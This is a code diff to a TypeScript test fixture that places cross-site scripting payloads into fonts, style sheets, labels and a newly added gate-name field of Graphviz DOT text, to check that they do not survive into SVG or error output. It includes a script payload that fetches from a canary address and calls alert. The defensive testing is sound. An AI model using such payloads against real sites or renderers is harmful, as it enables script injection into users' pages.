@@ -3,30 +3,33 @@
  * The payloads are put into all the places of a DOT text that can end up in an SVG or in an error message.
  */
 
+import { AddGate, ComputationalGraph, InputGate } from "@gradus/core";
+
 export interface Hostile {
   readonly payload: string;
   readonly place: string;
   readonly dot: string;
 }
 
-/** Graphviz copies these into the SVG as they are, so here every payload counts. */
-const unescaped = ["graph font", "node font", "edge font", "style sheet"];
+/** Graphviz copies the fonts and the style sheet into the SVG as they are, and names are what our own students choose. */
+const thorough = ["graph font", "node font", "edge font", "style sheet", "gate name"];
 
 /**
  * Every payload meets every third place, each time shifted by one, which keeps the test quick;
- * the unescaped places meet them all.
+ * the places where it matters most meet them all.
  *
  * @param canary - the address that nobody may call
  */
 export function hostileTexts(canary: string): Hostile[] {
   return Object.entries(payloads(canary)).flatMap(([payload, text], row) =>
     Object.entries(places)
-      .filter(([place], column) => (row + column) % 3 === 0 || unescaped.includes(place))
+      .filter(([place], column) => (row + column) % 3 === 0 || thorough.includes(place))
       .map(([place, put]) => ({ payload, place, dot: put(text) })),
   );
 }
 
-function payloads(canary: string): Record<string, string> {
+/** What an attacker would put there, by what it tries. */
+export function payloads(canary: string): Record<string, string> {
   // Three ways to be noticed: a dialog, a call, and the trap in the page.
   const run = `fetch('${canary}/script');alert(1);top.__pwned=1`;
   return {
@@ -126,5 +129,9 @@ const places: Readonly<Record<string, (text: string) => string>> = {
     `digraph { a [label=<<table id="${html(text)}"><tr><td>x</td></tr></table>>] }`,
   "text that does not end": (text) => `digraph { a [label="${text.replaceAll('"', '\\"')}`,
   "place of a node": (text) => `digraph { a -> ${text} }`,
+  "gate name": (text) => {
+    const gates = [new InputGate(1, text), new InputGate(2, text)];
+    return new ComputationalGraph(new AddGate(gates, text)).forward().dot;
+  },
   "whole text": (text) => text,
 };
